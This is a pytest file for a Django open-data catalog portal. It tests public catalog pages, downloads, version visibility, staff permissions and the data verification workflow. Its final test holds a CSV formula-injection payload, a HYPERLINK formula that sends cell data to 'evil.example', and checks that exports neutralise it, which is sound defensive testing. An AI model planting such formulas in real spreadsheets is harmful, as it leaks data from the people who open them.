"""Public catalog pages (no login, no JavaScript) and the staff pages of producers and the
walidata, with their permission matrix."""

from __future__ import annotations

import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from terang.core.models import AuditEntry
from terang.opendata import services
from terang.opendata.choices import DatasetState, VersionStatus
from terang.opendata.models import Dataset, DatasetUsage, DatastoreRow, Resource

from .conftest import csv_text, csv_upload, login_staff, make_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def two(catalog, producer, other_producer, walidata):
    first, resource = catalog.published("Jumlah Penduduk per Kelurahan", tags=["penduduk"])
    second, _r = catalog.published("Data Puskesmas", groups=["kesehatan"], tags=["kesehatan"])
    return first, resource, second


def text(response) -> str:
    return response.content.decode()


# Catalog


def test_catalog_lists_published_only_with_facets(client, two, catalog):
    catalog.draft("Draf Tersembunyi")
    response = client.get("/data/")
    assert response.status_code == 200
    page = text(response)
    assert "2 dataset" in page
    assert "Jumlah Penduduk per Kelurahan" in page and "Data Puskesmas" in page
    assert "Draf Tersembunyi" not in page
    assert 'name="organisasi" value="dinkes"' in page
    assert 'name="grup" value="kesehatan"' in page
    assert 'name="format" value="CSV"' in page
    assert 'name="lisensi" value="cc-by-4.0"' in page


def test_catalog_facet_link_filters(client, two):
    page = text(client.get("/data/", {"grup": "kesehatan"}))
    assert "1 dataset" in page
    assert "Data Puskesmas" in page and "Jumlah Penduduk per Kelurahan" not in page
    assert re.search(r'<input type="checkbox" name="grup" value="kesehatan" checked>', page)


def test_catalog_search_and_sort(client, two):
    page = text(client.get("/data/", {"q": "puskesmas"}))
    assert "1 dataset" in page and "Data Puskesmas" in page
    page = text(client.get("/data/", {"urut": "judul"}))
    assert page.index("Data Puskesmas") < page.index("Jumlah Penduduk per Kelurahan")


def test_catalog_pagination(client, catalog, walidata):
    for n in range(22):
        catalog.published(f"Dataset {n:02d}")
    page = text(client.get("/data/", {"urut": "judul"}))
    assert "Halaman 1 dari 2" in page
    assert "?urut=judul&amp;halaman=2" in page
    page2 = text(client.get("/data/", {"urut": "judul", "halaman": 2}))
    assert "Dataset 21" in page2 and "Dataset 00" not in page2


# Dataset and resource pages


def test_dataset_page_shows_metadata_versions_and_counts_a_view(client, two):
    first, resource, _second = two
    response = client.get(f"/data/dataset/{first.name}/")
    page = text(response)
    assert response.status_code == 200
    assert "Dinas Kesehatan" in page
    assert "Creative Commons Attribution 4.0" in page
    assert "penduduk.csv" in page
    assert "package_show" in page
    assert f'href="/data/{first.name}.ttl"' in page
    assert f'href="/data/{first.name}/datapackage.json"' in page
    first.refresh_from_db()
    assert first.view_count == 1
    assert DatasetUsage.objects.get(dataset=first).views == 1


def test_unpublished_dataset_is_404_for_the_public(client, catalog):
    dataset = catalog.draft()
    assert client.get(f"/data/dataset/{dataset.name}/").status_code == 404


def test_walidata_previews_a_submitted_dataset(client, catalog, producer, walidata):
    dataset, resource = catalog.with_csv()
    services.submit_dataset(actor=producer, dataset=dataset)
    login_staff(client, walidata)
    response = client.get(f"/data/dataset/{dataset.name}/")
    assert response.status_code == 200
    assert "belum terbit" in text(response)
    assert client.get(f"/data/dataset/{dataset.name}/sumber/{resource.pk}/").status_code == 200
    dataset.refresh_from_db()
    assert dataset.view_count == 0


def test_resource_preview_filters_and_sorts_without_javascript(client, two):
    first, resource, _second = two
    url = f"/data/dataset/{first.name}/sumber/{resource.pk}/"
    page = text(client.get(url))
    assert "Baris 1–5 dari 5" in page
    assert "aria-sort" not in page
    # column 3 (jumlah_penduduk) descending
    page = text(client.get(url, {"urut": "3", "arah": "turun"}))
    assert page.index("Anggrek") < page.index("Melati") < page.index("Kenanga")
    assert 'aria-sort="descending"' in page
    # filter kecamatan (column 1) equals
    page = text(client.get(url, {"f1": "Kecamatan Selatan"}))
    assert "Baris 1–2 dari 2" in page
    assert "Anggrek" in page and "Melati" not in page
    assert "Hasil saringan saja" in page


def test_resource_preview_bad_filter_value_is_explained(client, two):
    first, resource, _second = two
    response = client.get(f"/data/dataset/{first.name}/sumber/{resource.pk}/", {"f2": "abc"})
    assert response.status_code == 422
    assert "tidak cocok dengan tipe kolom tahun" in text(response)


def test_downloads_csv_json_xlsx_and_count(client, two):
    first, resource, _second = two
    base = f"/data/dataset/{first.name}/sumber/{resource.pk}/data."
    csv_response = client.get(base + "csv")
    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(csv_response.streaming_content).decode()
    assert body.splitlines()[:2] == [
        "kelurahan,kecamatan,tahun,jumlah_penduduk,luas_km2",
        "Melati,Kecamatan Utara,2024,12500,1.25",
    ]
    json_response = client.get(base + "json", {"f1": "Kecamatan Timur"})
    import json

    assert json.loads(b"".join(json_response.streaming_content)) == [
        {
            "kelurahan": "Dahlia",
            "kecamatan": "Kecamatan Timur",
            "tahun": 2024,
            "jumlah_penduduk": 11000,
            "luas_km2": 1.1,
        }
    ]
    xlsx_response = client.get(base + "xlsx")
    import io

    import openpyxl

    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_response.streaming_content)))
    rows = list(workbook.active.values)
    assert rows[0] == ("kelurahan", "kecamatan", "tahun", "jumlah_penduduk", "luas_km2")
    assert rows[1] == ("Melati", "Kecamatan Utara", 2024, 12500, 1.25)
    assert len(rows) == 6
    assert client.get(base + "pdf").status_code == 404
    first.refresh_from_db()
    assert first.download_count == 3
    assert DatasetUsage.objects.get(dataset=first).downloads == 3


def test_old_versions_stay_downloadable(client, two, producer, walidata):
    first, resource, _second = two
    newer = csv_text().splitlines()[0] + "\nMelati,Kecamatan Utara,2025,12600,1.25\n"
    services.upload_version(actor=producer, resource=resource, upload=csv_upload(newer, "baru.csv"))
    services.verify_pending_changes(actor=walidata, dataset=first)
    url = f"/data/dataset/{first.name}/sumber/{resource.pk}/versi/1/penduduk.csv"
    response = client.get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == csv_text().encode()
    page = text(client.get(f"/data/dataset/{first.name}/"))
    assert "Versi lama" in page and "baru.csv" in page


def test_pending_and_refused_versions_are_not_public(client, two, producer):
    first, resource, _second = two
    services.upload_version(
        actor=producer, resource=resource, upload=csv_upload(name="menunggu.csv")
    )
    page = text(client.get(f"/data/dataset/{first.name}/"))
    assert "menunggu.csv" not in page
    url = f"/data/dataset/{first.name}/sumber/{resource.pk}/versi/2/menunggu.csv"
    assert client.get(url).status_code == 404


# Staff pages


@pytest.mark.parametrize(
    ("who", "status"),
    [
        ("anonymous", 302),
        ("citizen", 403),
        ("operator", 403),
        ("producer", 200),
        ("other_producer", 200),
        ("walidata", 200),
        ("admin", 200),
    ],
)
def test_staff_list_permission_matrix(
    client, catalog, producer, other_producer, walidata, admin, citizen, who, status
):
    catalog.draft("Draf Dinkes")
    users = {
        "citizen": citizen,
        "producer": producer,
        "other_producer": other_producer,
        "walidata": walidata,
        "admin": admin,
        "operator": make_user("op", "operator"),
    }
    if who in users:
        if who == "citizen":
            client.force_login(citizen)
        else:
            login_staff(client, users[who])
    response = client.get("/data/staf/")
    assert response.status_code == status
    if status == 200:
        visible = "Draf Dinkes" in text(response)
        assert visible == (who in ("producer", "walidata", "admin"))


def test_producer_creates_uploads_and_submits_through_pages(client, catalog, producer):
    login_staff(client, producer)
    response = client.post(
        "/data/staf/baru/",
        {
            "title": "Kasus DBD per Bulan",
            "notes": "Kasus demam berdarah.",
            "licence": "cc-by-4.0",
            "update_frequency": "monthly",
            "tags": "dbd, kesehatan",
            "groups": [],
        },
    )
    assert response.status_code == 302
    dataset = Dataset.objects.get(name="kasus-dbd-per-bulan")
    assert dataset.organization == producer.agency
    assert sorted(dataset.tags.values_list("name", flat=True)) == ["dbd", "kesehatan"]
    response = client.post(
        f"/data/staf/dataset/{dataset.name}/sumber/baru/",
        {
            "name": "Kasus 2024",
            "upload": SimpleUploadedFile("dbd.csv", b"bulan,kasus\n2024-01-01,5\n2024-02-01,7\n"),
        },
    )
    assert response.status_code == 302
    resource = Resource.objects.get(dataset=dataset)
    assert resource.row_count == 2
    response = client.post(f"/data/staf/dataset/{dataset.name}/ajukan/")
    assert response.status_code == 302
    dataset.refresh_from_db()
    assert dataset.state == DatasetState.SUBMITTED


def test_upload_page_refuses_a_file_over_the_limit_and_saves_nothing(
    client, catalog, producer, settings
):
    settings.OPENDATA_MAX_UPLOAD_BYTES = 10
    dataset = catalog.draft()
    login_staff(client, producer)
    response = client.post(
        f"/data/staf/dataset/{dataset.name}/sumber/baru/",
        {"name": "Besar", "upload": SimpleUploadedFile("besar.csv", b"a,b\n1,2\n3,4\n")},
    )
    assert response.status_code == 413
    assert response.context["form"].errors["upload"] == ["Berkas terlalu besar."]
    assert Resource.objects.filter(dataset=dataset).count() == 0


def test_refused_upload_page_shows_the_line_numbered_report(client, catalog, producer):
    dataset, resource = catalog.with_csv()
    login_staff(client, producer)
    bad = csv_text() + "Bougenville,Kecamatan Barat,2024,banyak,1.0\n"
    response = client.post(
        f"/data/staf/dataset/{dataset.name}/sumber/{resource.pk}/versi/",
        {"upload": SimpleUploadedFile("buruk.csv", bad.encode())},
    )
    page = text(response)
    assert response.status_code == 422
    assert "Berkas ditolak, tidak ada data yang disimpan" in page
    assert "baris 7" in page
    assert "bilangan bulat" in page
    assert resource.versions.get(number=2).status == VersionStatus.REFUSED
    assert DatastoreRow.objects.filter(resource=resource).count() == 5


def test_schema_page_refuses_a_type_change_with_a_report(client, catalog, producer):
    dataset, resource = catalog.with_csv()
    login_staff(client, producer)
    url = f"/data/staf/dataset/{dataset.name}/sumber/{resource.pk}/skema/"
    assert client.get(url).status_code == 200
    data = {}
    for index, field in enumerate(resource.table_schema["fields"]):
        data[f"type_{index}"] = field["type"]
    data["type_1"] = "integer"
    data["title_3"] = "Jumlah penduduk"
    response = client.post(url, data)
    assert response.status_code == 422
    assert "Skema ditolak, data tidak berubah" in text(response)
    resource.refresh_from_db()
    assert resource.table_schema["fields"][1]["type"] == "string"
    data["type_1"] = "string"
    assert client.post(url, data).status_code == 302
    resource.refresh_from_db()
    assert resource.table_schema["fields"][3]["title"] == "Jumlah penduduk"


def test_other_agency_producer_cannot_post_to_a_dataset(client, catalog, producer, other_producer):
    dataset, resource = catalog.with_csv()
    before = AuditEntry.objects.count()
    login_staff(client, other_producer)
    assert client.post(f"/data/staf/dataset/{dataset.name}/ajukan/").status_code == 404
    assert (
        client.post(f"/data/staf/dataset/{dataset.name}/ubah/", {"title": "x"}).status_code == 404
    )
    dataset.refresh_from_db()
    assert dataset.state == DatasetState.DRAFT
    assert AuditEntry.objects.count() == before


def test_walidata_queue_and_verification_through_pages(client, catalog, producer, walidata):
    dataset, _resource = catalog.with_csv()
    services.submit_dataset(actor=producer, dataset=dataset)
    login_staff(client, producer)
    assert client.get("/data/staf/walidata/").status_code == 403
    assert client.post(f"/data/staf/dataset/{dataset.name}/verifikasi/").status_code == 403
    dataset.refresh_from_db()
    assert dataset.state == DatasetState.SUBMITTED

    login_staff(client, walidata)
    page = text(client.get("/data/staf/walidata/"))
    assert dataset.title in page
    detail = text(client.get(f"/data/staf/dataset/{dataset.name}/"))
    assert "Verifikasi dan terbitkan" in detail
    response = client.post(f"/data/staf/dataset/{dataset.name}/verifikasi/", {"note": "Baik."})
    assert response.status_code == 302
    dataset.refresh_from_db()
    assert dataset.state == DatasetState.PUBLISHED
    assert "Tidak ada dataset yang menunggu." in text(client.get("/data/staf/walidata/"))


def test_walidata_return_without_note_changes_nothing(client, catalog, producer, walidata):
    dataset, _resource = catalog.with_csv()
    services.submit_dataset(actor=producer, dataset=dataset)
    login_staff(client, walidata)
    response = client.post(
        f"/data/staf/dataset/{dataset.name}/kembalikan/", {"note": ""}, follow=True
    )
    assert "Tuliskan alasannya." in text(response)
    dataset.refresh_from_db()
    assert dataset.state == DatasetState.SUBMITTED


def test_staff_detail_shows_the_history(client, catalog, producer):
    dataset, _resource = catalog.with_csv()
    login_staff(client, producer)
    page = text(client.get(f"/data/staf/dataset/{dataset.name}/"))
    assert "Dataset dibuat" in page and "Berkas diunggah" in page


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def test_downloads_neutralise_formulas_and_keep_numbers(client, catalog):
    text = (
        "kelurahan,kecamatan,tahun,jumlah_penduduk,luas_km2\n"
        f'"{FORMULA.replace(chr(34), chr(34) * 2)}",@SUM(A1),2024,-12,-1.5\n'
    )
    dataset, resource = catalog.published("Data Berformula", text=text)
    base = f"/data/dataset/{dataset.name}/sumber/{resource.pk}/data."
    body = b"".join(client.get(base + "csv").streaming_content).decode()
    import csv
    import io

    assert list(csv.reader(io.StringIO(body)))[1] == [
        "'" + FORMULA,
        "'@SUM(A1)",
        "2024",
        "-12",
        "-1.5",
    ]

    import openpyxl

    workbook = openpyxl.load_workbook(
        io.BytesIO(b"".join(client.get(base + "xlsx").streaming_content))
    )
    cells = list(workbook.active.iter_rows(min_row=2, max_row=2))[0]
    assert [c.value for c in cells] == ["'" + FORMULA, "'@SUM(A1)", 2024, -12, -1.5]
    assert [c.data_type for c in cells] == ["s", "s", "n", "n", "n"]
